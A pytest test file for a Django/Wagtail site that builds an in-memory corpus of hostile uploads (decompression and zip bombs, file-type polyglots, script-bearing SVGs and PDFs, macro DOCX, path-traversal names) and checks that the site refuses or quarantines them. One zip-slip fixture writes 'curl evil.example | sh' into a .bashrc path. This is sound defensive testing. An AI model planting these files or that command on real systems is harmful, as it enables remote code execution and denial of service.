"""The upload attack corpus: what strangers send as "attachments".

Each file is built here, in memory (nothing big is committed). Each is refused with a
message for the file field, or stored inertly (random name, private folder) and served
only as a download with a checked content type. The same limits are checked on the
Wagtail admin's image and document uploads.
"""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from PIL import Image
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection

from challenges import services
from challenges.models import ChallengePage, EntryAttachment
from home.models import Organisation, User
from tests.challenges.files import EXE, PDF, PNG, docx_bytes, upload
from tests.conftest import load_demo_site, shared_data
from tests.factories.challenges import (
    BusinessFactory,
    ChallengeIndexPageFactory,
    challenge_with_criteria,
    member_of,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("_world")]


@pytest.fixture(scope="module")
def _world(django_db_setup, django_db_blocker):
    """The site, one open challenge and one start-up, built once for the module (as
    tests/challenges/conftest.py builds them for each test); every test's writes are
    rolled back."""

    def build():
        index = ChallengeIndexPageFactory(parent=load_demo_site())
        index.save_revision().publish()
        challenge = challenge_with_criteria(
            index, title="Damp and mould", slug="damp-and-mould"
        )
        organisation = BusinessFactory(name="Damp Sense Ltd")
        user = member_of(organisation)
        return {
            "challenge": challenge.pk,
            "organisation": organisation.pk,
            "user": user.pk,
        }

    yield from shared_data(django_db_blocker, build)


@pytest.fixture
def challenge(_world, db):
    return ChallengePage.objects.get(pk=_world["challenge"])


@pytest.fixture
def startup(_world, db):
    return (
        Organisation.objects.get(pk=_world["organisation"]),
        User.objects.get(pk=_world["user"]),
    )


LIMIT = EntryAttachment.MAX_BYTES


# --- The corpus ----------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def decompression_bomb_png(side: int = 60_000) -> bytes:
    """A few hundred bytes that claim 60,000 x 60,000 pixels (3.6 gigapixels): opening
    it for real would need gigabytes of memory."""
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def image_over_40_megapixels() -> bytes:
    """A real, valid PNG of 8,000 x 5,001 pixels: 40,008,000, just over the limit."""
    buffer = io.BytesIO()
    Image.new("1", (8_000, 5_001), 1).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


def jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), "navy").save(buffer, format="JPEG")
    return buffer.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
    b'height="10"><script>fetch("/account/").then(r=>r.text()).then(alert)</script>'
    b"</svg>"
)
# Valid GIF header and valid JavaScript at once ("GIFAR"-style polyglot).
GIF_JS_POLYGLOT = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.cookie);//"
HTML_AS_PDF = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200


def _zip(members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A PDF that is also a ZIP archive (readers find the ZIP's directory at the end)."""
    return PDF + _zip({"payload.exe": EXE})


def jpeg_zip_polyglot() -> bytes:
    return jpeg() + _zip({"payload.js": b"alert(1)"})


def png_with_html_after_the_image() -> bytes:
    return PNG + b"<html><body><script>alert(1)</script></body></html>" + b" " * 2000


def docx_with_pdf_inside() -> bytes:
    """A DOCX whose first part, stored uncompressed, starts a PDF: a DOCX to Word and a
    PDF to a reader that looks for %PDF in the first kilobyte."""
    return _zip(
        {
            "[Content_Types].xml": PDF,
            "word/document.xml": b"<w:document/>",
        },
        method=zipfile.ZIP_STORED,
    )


def zip_bomb_docx(unzipped_mb: int = 150) -> bytes:
    """A DOCX-shaped archive of ~150 KB holding 150 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<w:document/>")
        with archive.open("word/media/image1.png", "w", force_zip64=True) as member:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(unzipped_mb):
                member.write(chunk)
    return buffer.getvalue()


def docx_with_macros() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
        }
    )


def docx_with_zip_slip() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
            "../../../../home/lab/.bashrc": b"curl evil.example | sh",
        }
    )


def pdf_of_size(size: int) -> bytes:
    """A valid PDF of exactly `size` bytes (padded with a comment before %%EOF)."""
    head = PDF.removesuffix(b"%%EOF\n")
    tail = b"\n%%EOF\n"
    padding = size - len(head) - len(tail) - 2
    return head + b"%" + b"x" * padding + b"\n" + tail


def pdf_with(active: bytes) -> bytes:
    return PDF.replace(
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>",
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S" + active + b">>>>",
    )


def pdf_with_compressed(payload: bytes, *, before: bytes = b"") -> bytes:
    """A PDF with a Flate-compressed object stream holding `payload` (PDF 1.5 keeps
    dictionaries there, out of sight of a scan of the raw bytes); `before` goes just
    ahead of it."""
    body = zlib.compress(payload)
    stream = (
        b"3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n"
        % len(body)
        + body
        + b"\nendstream\nendobj\n"
    )
    return PDF.replace(b"trailer", before + stream + b"trailer")


JS_DICTIONARY = b"4 0 <</S/JavaScript/JS(app.alert(1))>>"

REFUSED = [
    # (id, name, content, words in the message)
    ("decompression-bomb", "photo.png", decompression_bomb_png, "40 megapixels"),
    ("over-40-megapixels", "plan.png", image_over_40_megapixels, "40 megapixels"),
    ("svg-with-script", "logo.svg", lambda: SVG_WITH_SCRIPT, "must be a PDF"),
    ("svg-named-png", "logo.png", lambda: SVG_WITH_SCRIPT, "must be a PDF"),
    ("gif-js-polyglot", "pixel.png", lambda: GIF_JS_POLYGLOT, "must be a PDF"),
    ("pdf-zip-polyglot", "plan.pdf", pdf_zip_polyglot, "hides another file"),
    ("jpeg-zip-polyglot", "photo.jpg", jpeg_zip_polyglot, "hides another file"),
    ("png-html-polyglot", "chart.png", png_with_html_after_the_image, "web page"),
    ("docx-pdf-polyglot", "cv.docx", docx_with_pdf_inside, "hides another file"),
    ("exe-renamed-pdf", "budget.pdf", lambda: EXE, "must be a PDF"),
    ("elf-renamed-pdf", "budget.pdf", lambda: ELF, "must be a PDF"),
    ("html-renamed-pdf", "budget.pdf", lambda: HTML_AS_PDF, "must be a PDF"),
    ("zip-bomb-docx", "proposal.docx", zip_bomb_docx, "zip bomb"),
    ("zip-bomb-ratio", "proposal.docx", lambda: zip_bomb_docx(20), "zip bomb"),
    ("docx-macros", "proposal.docx", docx_with_macros, "macros"),
    ("docx-zip-slip", "proposal.docx", docx_with_zip_slip, "not a DOCX"),
    ("zip-as-docx", "proposal.docx", lambda: _zip({"a.txt": b"x"}), "must be a PDF"),
    (
        "pdf-javascript",
        "plan.pdf",
        lambda: pdf_with(b"/JavaScript/JS(app.alert(1))"),
        "scripts",
    ),
    ("pdf-escaped-js", "plan.pdf", lambda: pdf_with(b"/J#61vaScript/JS(x)"), "scripts"),
    ("pdf-launch", "plan.pdf", lambda: pdf_with(b"/Launch/F(cmd.exe)"), "scripts"),
    (
        "pdf-js-in-compressed-object-stream",
        "plan.pdf",
        lambda: pdf_with_compressed(JS_DICTIONARY),
        "scripts",
    ),
    (
        "pdf-compressed-js-behind-a-decoy-stream-keyword",
        "plan.pdf",
        lambda: pdf_with_compressed(
            JS_DICTIONARY, before=b"5 0 obj(a mainstream\nidea)endobj\n"
        ),
        "scripts",
    ),
    ("broken-png", "chart.png", lambda: PNG[:40], "that can be opened"),
    ("png-named-pdf", "plan.pdf", lambda: PNG, "ends in .pdf"),
    ("right-to-left-override", "invoice\u202efdp.exe", lambda: PDF, "ends in .exe"),
    (
        "one-byte-over-limit",
        "big.pdf",
        lambda: pdf_of_size(LIMIT + 1),
        "smaller than 10 MB",
    ),
    ("empty", "empty.pdf", lambda: b"", "empty"),
]


# --- Refused, with a message for the field --------------------------------------------


class UploadAttackTests:
    @pytest.mark.parametrize(
        ("name", "build", "message"),
        [pytest.param(n, b, m, id=i) for i, n, b, m in REFUSED],
    )
    def test_refused_with_a_message_for_the_file_field(
        self, challenge, startup, settings, name, build, message
    ):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        with pytest.raises(ValidationError) as caught:
            services.entry_attachment_add(
                entry=entry, by=user, upload=upload(name, build())
            )
        errors = caught.value.message_dict
        assert list(errors) == ["file"]
        assert message in errors["file"][0]
        assert not EntryAttachment.objects.exists()
        stored = Path(settings.PRIVATE_MEDIA_ROOT)
        assert not stored.exists() or not any(p.is_file() for p in stored.rglob("*"))

    @pytest.mark.parametrize(
        ("name", "build", "message"),
        [
            ("photo.png", decompression_bomb_png, "40 megapixels"),
            ("budget.pdf", lambda: EXE, "must be a PDF"),
            ("proposal.docx", zip_bomb_docx, "zip bomb"),
        ],
    )
    def test_the_page_shows_the_message_beside_the_field(
        self, client, challenge, startup, name, build, message
    ):
        _, user = startup
        client.force_login(user)
        entry = services.entry_start(challenge=challenge, user=user)
        url = reverse("entry_attachments", args=[entry.pk])
        response = client.post(url, {"file": upload(name, build())})
        assert response.status_code == 200
        content = response.content.decode()
        assert 'id="id_file-error"' in content
        assert "govuk-error-summary" in content
        assert message in content
        assert not EntryAttachment.objects.exists()


# --- Accepted, stored inertly, served as a download ------------------------------------


class CompressedPdfTests:
    def test_a_pdf_with_ordinary_compressed_content_is_accepted(
        self, challenge, startup
    ):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        content = pdf_with_compressed(b"BT /F1 12 Tf 72 712 Td (Our plan) Tj ET" * 500)
        attachment = services.entry_attachment_add(
            entry=entry, by=user, upload=upload("plan.pdf", content)
        )
        assert attachment.content_type == "application/pdf"

    def test_a_stream_inflating_past_the_budget_is_refused(
        self, challenge, startup, monkeypatch
    ):
        """A Flate bomb: 10 MB of zeros compress to about 10 KB."""
        from challenges import uploads

        monkeypatch.setattr(uploads, "MAX_PDF_INFLATED_BYTES", 5 * 1024 * 1024)
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        with pytest.raises(ValidationError) as caught:
            services.entry_attachment_add(
                entry=entry,
                by=user,
                upload=upload("plan.pdf", pdf_with_compressed(bytes(10 * 1024 * 1024))),
            )
        assert "too large to check once decompressed" in caught.value.messages[0]

    def test_too_many_streams_are_refused(self, challenge, startup, monkeypatch):
        from challenges import uploads

        monkeypatch.setattr(uploads, "MAX_PDF_STREAMS", 10)
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        decoys = PDF.replace(b"trailer", b"(stream\n)" * 11 + b"endstream\ntrailer")
        with pytest.raises(ValidationError) as caught:
            services.entry_attachment_add(
                entry=entry, by=user, upload=upload("plan.pdf", decoys)
            )
        assert "too many parts to check" in caught.value.messages[0]

    def test_every_stream_keyword_is_tried_once(self):
        """Decoy `stream` keywords with one `endstream` at the end: each gives one body
        (a view, not a copy), which the check abandons at its first bytes."""
        from challenges.uploads import _pdf_stream_bodies

        decoys = PDF.replace(
            b"trailer", b"(stream\n)" * 200_000 + b"endstream\ntrailer"
        )
        bodies = _pdf_stream_bodies(decoys)
        assert sum(1 for _ in bodies) == 200_000


class InertStorageTests:
    def test_a_file_of_exactly_the_limit_is_accepted(self, challenge, startup):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        content = pdf_of_size(LIMIT)
        assert len(content) == LIMIT
        attachment = services.entry_attachment_add(
            entry=entry, by=user, upload=upload("full.pdf", content)
        )
        assert attachment.size == LIMIT
        assert attachment.content_type == "application/pdf"

    @pytest.mark.parametrize(
        ("sent", "kept"),
        [
            ("..\\..\\windows\\system32\\evil.pdf", "evil.pdf"),
            ("report\x00.exe.pdf", "report.exe.pdf"),
            ("line\nbreak\r\n.pdf", "line break.pdf"),
            ("\u202eplan.pdf", "plan.pdf"),
            ("  ...hidden.pdf  ", "hidden.pdf"),
            ("no-extension", "no-extension.pdf"),
            ("a" * 300 + ".pdf", "a" * 146 + ".pdf"),
        ],
    )
    def test_names_lose_paths_and_control_characters(
        self, challenge, startup, settings, sent, kept
    ):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        attachment = services.entry_attachment_add(
            entry=entry, by=user, upload=upload(sent, PDF)
        )
        assert attachment.original_name == kept
        path = Path(attachment.file.path).resolve()
        assert path.is_relative_to(Path(settings.PRIVATE_MEDIA_ROOT).resolve())
        assert kept.split(".")[0] not in path.name  # stored under a random name

    def test_path_traversal_through_the_form_is_stored_inside_the_private_folder(
        self, client, challenge, startup, settings
    ):
        _, user = startup
        client.force_login(user)
        entry = services.entry_start(challenge=challenge, user=user)
        response = client.post(
            reverse("entry_attachments", args=[entry.pk]),
            {"file": upload("../../../../etc/cron.d/evil.pdf", PDF)},
        )
        assert response.status_code == 302
        attachment = EntryAttachment.objects.get()
        assert attachment.original_name == "evil.pdf"
        root = Path(settings.PRIVATE_MEDIA_ROOT).resolve()
        assert Path(attachment.file.path).resolve().is_relative_to(root)
        assert not Path("/etc/cron.d/evil.pdf").exists()

    @pytest.mark.parametrize(
        ("name", "content", "content_type"),
        [
            ("plan.pdf", PDF, "application/pdf"),
            ("photo.jpeg", None, "image/jpeg"),
            ("cv.docx", docx_bytes(), "application/vnd.openxmlformats-officedocument"),
        ],
    )
    def test_served_only_as_a_download_with_a_safe_type(
        self, client, challenge, startup, name, content, content_type
    ):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        attachment = services.entry_attachment_add(
            entry=entry, by=user, upload=upload(name, content or jpeg(), "text/html")
        )
        client.force_login(user)
        response = client.get(reverse("attachment_download", args=[attachment.pk]))
        assert response.status_code == 200
        assert response["Content-Type"].startswith(content_type)  # not the browser's
        assert response["Content-Disposition"].startswith("attachment;")
        assert name in response["Content-Disposition"]
        assert response["X-Content-Type-Options"] == "nosniff"
        assert "private" in response["Cache-Control"]
        assert b"".join(response.streaming_content) == (content or jpeg())

    def test_a_stranger_cannot_download_it(
        self, client, challenge, startup, other_startup
    ):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        attachment = services.entry_attachment_add(
            entry=entry, by=user, upload=upload("plan.pdf", PDF)
        )
        client.force_login(other_startup[1])
        response = client.get(reverse("attachment_download", args=[attachment.pk]))
        assert response.status_code == 404


# --- The Wagtail admin's image and document uploads -----------------------------------


@pytest.fixture
def lead_client(client, demo_site, login):
    login("lead@impactlab.example")
    return client


def _admin_post(client, url_name, name, content):
    return client.post(
        reverse(url_name),
        {
            "title": "Upload",
            "file": upload(name, content),
            "collection": Collection.get_first_root_node().pk,
        },
    )


class WagtailUploadLimitTests:
    def test_a_good_image_is_accepted(self, lead_client):
        response = _admin_post(lead_client, "wagtailimages:add", "chart.png", PNG)
        assert response.status_code == 302
        assert get_image_model().objects.count() == 1

    @pytest.mark.parametrize(
        ("name", "build", "message"),
        [
            ("bomb.png", decompression_bomb_png, "pixels"),
            ("big.png", image_over_40_megapixels, "pixels"),
            ("logo.svg", lambda: SVG_WITH_SCRIPT, "Not a supported image format"),
            ("huge.png", lambda: PNG + b"\x00" * (10 * 1024 * 1024), "too big"),
        ],
    )
    def test_images_over_the_limits_are_refused(
        self, lead_client, name, build, message
    ):
        response = _admin_post(lead_client, "wagtailimages:add", name, build())
        assert response.status_code == 200
        assert message in response.content.decode()
        assert get_image_model().objects.count() == 0

    def test_a_good_document_is_accepted(self, lead_client):
        response = _admin_post(lead_client, "wagtaildocs:add", "plan.pdf", PDF)
        assert response.status_code == 302
        assert get_document_model().objects.count() == 1

    @pytest.mark.parametrize(
        ("name", "content", "message"),
        [
            ("setup.exe", EXE, "not allowed"),
            ("page.html", HTML_AS_PDF, "not allowed"),
            ("logo.svg", SVG_WITH_SCRIPT, "not allowed"),
            ("big.pdf", pdf_of_size(LIMIT + 1), "too big"),
        ],
    )
    def test_documents_outside_the_allow_list_are_refused(
        self, lead_client, name, content, message
    ):
        response = _admin_post(lead_client, "wagtaildocs:add", name, content)
        assert response.status_code == 200
        assert message in response.content.decode()
        assert get_document_model().objects.count() == 0

    def test_documents_are_served_as_inert_downloads(self, client, lead_client):
        _admin_post(lead_client, "wagtaildocs:add", "plan.pdf", PDF)
        document = get_document_model().objects.get()
        client.logout()
        response = client.get(document.url)
        assert response.status_code == 200
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"].startswith("default-src 'none'")
